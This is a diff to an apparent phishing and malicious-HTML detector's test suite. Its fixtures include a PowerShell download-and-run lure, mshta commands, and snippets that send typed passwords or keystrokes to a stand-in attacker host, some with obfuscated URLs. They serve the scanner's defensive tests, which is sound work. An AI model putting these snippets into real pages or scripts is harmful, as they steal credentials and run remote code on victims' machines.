@@ -4,6 +4,7 @@ import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
 import { useInspector } from '#inspect/testing/inspector.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
+import { ARTICLE_MIN } from './forms.ts'
 
 const { inspect } = useInspector()
 
@@ -208,6 +209,13 @@ suite('a page that makes the reader run a command', () => {
     has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.CommandCopy')
   })
 
+  test('but not a script or note with some tags', () => {
+    const text =
+      'Open PowerShell, verify the error and fix it: press Win+R, paste\n  powershell -c "iwr https://a.example/x.ps1 | iex"\n'
+    has(Buffer.from(`<html><body><p>${text}</p></body></html>`), 'Html.CommandCopy')
+    for (const tags of ['<Style TargetType="Button"/>', '<Button Name="a"/>', '<div>'])
+      harmless(Buffer.from(`# Settings of the window\n$form = @"\n${tags}\n"@\n${text}`))
+  })
   test('but not a page that warns of it', () => {
     const page = `<html><body><h1>Fake captchas</h1>${LURE}<code>mshta https://example.com/v</code>Never run such a command.</body></html>`
     harmless(Buffer.from(page))
@@ -303,6 +311,83 @@ suite('a page that asks for a password', () => {
   test('but keeps it', () =>
     harmless(html('check(document.forms[0].p.value)', `<form action="/login">${FIELDS}</form>`)))
 
+  suite('and loads or opens other things', () => {
+    const login = (action: string, fields = FIELDS): string => `<form action="${action}" method="post">${fields}</form>`
+    const share = 'function share(){window.open("https://social.example/share?url="+encodeURIComponent(location.href))}'
+    const pages: Record<string, Uint8Array> = {
+      'a window for sharing': html(share, login('/login')),
+      'a window for sharing, by a method of the page': html(
+        'function f(t){var w=window.open("https://api.chat.example/send?text="+t,"_blank");w.focus()}',
+        FIELDS,
+      ),
+      'a counter of readers': html(
+        'fetch("https://count.example/hit?u="+encodeURIComponent(location.href))',
+        login('/login', '<input name=user><input type=password id=pw-field>'),
+      ),
+      'a form for another site': html(
+        '',
+        `<form action="https://news.example/subscribe"><input name=mail></form>${login('/in')}`,
+      ),
+    }
+    for (const [name, page] of Object.entries(pages)) test(`such as ${name} is harmless`, () => harmless(page))
+    const hostile: Record<string, [string, Uint8Array]> = {
+      'a request for the password': [
+        'Html.CredentialForm',
+        html(
+          'var x=new XMLHttpRequest();x.open("POST","https://kit.example/a");x.send(document.forms[0].p.value)',
+          FIELDS,
+        ),
+      ],
+      'a request by a method that is unknown': [
+        'Html.CredentialForm',
+        html(
+          'function send(m){var x=new XMLHttpRequest();x.open(m,"https://kit.example/a");x.send(document.forms[0].p.value)}',
+          FIELDS,
+        ),
+      ],
+      'a coded request for the password': [
+        'Html.Phishing',
+        html(
+          `var x=new XMLHttpRequest();x.open("POST",atob("${btoa('https://kit.example/a')}"));x.send(p.value)`,
+          FIELDS,
+        ),
+      ],
+      'a form inside another': [
+        'Html.CredentialForm',
+        html('', `<form action="https://kit.example/a">${login('/login')}`),
+      ],
+      'a field of another form': [
+        'Html.CredentialForm',
+        html('', `<form id=f action="https://kit.example/a"></form>${login('/in', '<input type=password form=f>')}`),
+      ],
+      'a button for another form': [
+        'Html.CredentialForm',
+        html('', login('/in', `${FIELDS}<button formaction="https://kit.example/a">Go</button>`)),
+      ],
+      'the keys that are pressed': [
+        'Html.CredentialForm',
+        html('document.onkeyup=function(e){fetch("https://kit.example/a?k="+e.key)}', '<input type=password>'),
+      ],
+    }
+    for (const [name, [id, page]] of Object.entries(hostile)) test(`such as ${name}`, () => has(page, id))
+  })
+
+  test('beside an article of the same site is harmless', () => {
+    const article = (characters: number, own = 'https://www.paper.example/a', code = ''): Uint8Array =>
+      html(
+        code,
+        `<link rel="canonical" href="${own}"><form action="https://login.paper.example/in">${FIELDS}</form>${'Read this. '.repeat(characters / 11)}`,
+      )
+    harmless(article(ARTICLE_MIN * 1.1))
+    has(article(ARTICLE_MIN * 0.9), 'Html.CredentialForm')
+    has(article(ARTICLE_MIN * 1.1, 'https://www.other.example/a'), 'Html.CredentialForm')
+    has(article(ARTICLE_MIN * 1.1, '/a'), 'Html.CredentialForm')
+    has(
+      article(ARTICLE_MIN * 1.1, undefined, `fetch(atob("${btoa('https://kit.example/x')}"),{body:p.value})`),
+      'Html.Phishing',
+    )
+  })
+
   test('in a drawing', () => {
     has(svg(`<foreignObject><form action="https://example.com/p">${FIELDS}</form></foreignObject>`), 'Html.Phishing')
   })
@@ -378,6 +463,15 @@ suite('links of a page', () => {
   test('to a picture on a public file server', () =>
     has(image(String.raw`\\203.0.113.5\a.png`), 'Link.FileServerAutomatic'))
   test('to a picture on a server of the company', () => has(image('file://files/a.png'), 'Link.FileServer'))
+  test('to a picture of a style on a public file server', () => {
+    for (const style of [
+      'background:url(file://files.example/a.png)',
+      "background: URL( 'file://files.example/a.png')",
+    ])
+      has(html('', `<div style="${style}">${PARAGRAPH}</div>`), 'Link.FileServerAutomatic')
+    for (const code of ['new URL(&#39;file://files.example/a&#39;)', 'url.URL(&#39;file://files.example/a&#39;)'])
+      harmless(html('', `<pre><code>${code}</code></pre>${PARAGRAPH}`))
+  })
   test('to web pages, mail and parts of the page are harmless', () => {
     for (const target of [
       'https://example.com/',
@@ -402,6 +496,23 @@ suite('a drawing', () => {
     )
     for (const script of ['open(a)', 'self[a](b)', 'top.location=a', 'new Image().src=a', 'document.write(a)', 'a(('])
       has(svg(`<script>${script}</script>`), 'Svg.Script')
+  })
+  test('with a script beside it that moves and enlarges it is harmless', () => {
+    const graph = (script: string, more = ''): Uint8Array =>
+      svg(
+        `<script>var g=document.getElementsByTagName('g');for(var i=0;i<g.length;i++)g[i].setAttribute('class','edge')</script>${script}<g id="a"><a xlink:href="b.html"><text>b</text></a></g><use onmousedown="handleZoom(evt,'in')"/>${more}`,
+      )
+    harmless(graph('<script xlink:href="svgpan.js"/>'))
+    harmless(graph('<script type="text/javascript" href="./lib/pan.js" />'))
+    has(graph('<script xlink:href="https://kit.example/a.js"/>'), 'Svg.Script')
+    has(graph('<script xlink:href="//kit.example/a.js"/>'), 'Svg.Script')
+    has(
+      graph('<script xlink:href="pan.js"/>', '<script>location.href=atob("aHR0cHM6Ly9raXQuZXhhbXBsZS8=")</script>'),
+      'Svg.Redirect',
+    )
+    // In a page inside the drawing, the tag does not end itself.
+    has(graph(`<foreignObject><script/>eval(atob("${btoa('go()')}"))</script></foreignObject>`), 'Svg.Redirect')
+    has(graph(`<script src=pan.js/>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect')
   })
   test('with letters of a handler as references', () => {
     has(svg('<rect onclick="&#111;pen(1)"/>'), 'Svg.Redirect')
@@ -500,6 +611,27 @@ test('a password form whose address is relative to a server', () => {
   const form = '<form action="p.php"><input type="password" name="p"></form>'
   assert.deepEqual(accusations(html('', `<base href="https://forms.example/">${form}`)), ['Html.CredentialForm'])
   harmless(html('', form))
+})
+
+suite('a script whose address is joined', () => {
+  const load = (address: string): Uint8Array =>
+    html(`var s=document.createElement("script");s.src=${address};document.body.appendChild(s)`, '<p>Hello</p>')
+  const PLAIN = [
+    '(document.location.protocol=="https:"?"https://sb":"http://b")+".counter.example/beacon.js"',
+    '("https:"==location.protocol?"https://ssl":"http://www")+".counter.example/ga.js"',
+    '"//"+site+".comments.example/embed.js"',
+    '"https://"+["cdn","counter","example"].slice(0,1)+".counter.example/a.js"',
+    '"https://counter.example/"+Date.now()+".js"',
+  ]
+  for (const address of PLAIN) test(`from ${address} is harmless`, () => harmless(load(address)))
+  const HIDDEN = [
+    `atob("${btoa('https://kit.example/a.js')}")`,
+    '"https://ki"+"t.exam"+"ple/a.js"',
+    '["elp","maxe.tik//:sptth"].join("").split("").reverse().join("")',
+    'String.fromCharCode(104,116,116,112,115,58,47,47,107,105,116,46,101,120,97,109,112,108,101)+"/a.js"',
+    `"https://"+atob("${btoa('kit')}")+".exam"+"ple/a.js"`,
+  ]
+  for (const address of HIDDEN) test(`from ${address}`, () => has(load(address), 'Html.HiddenScript'))
 })
 
 suite('a page that hides the script it runs', () => {
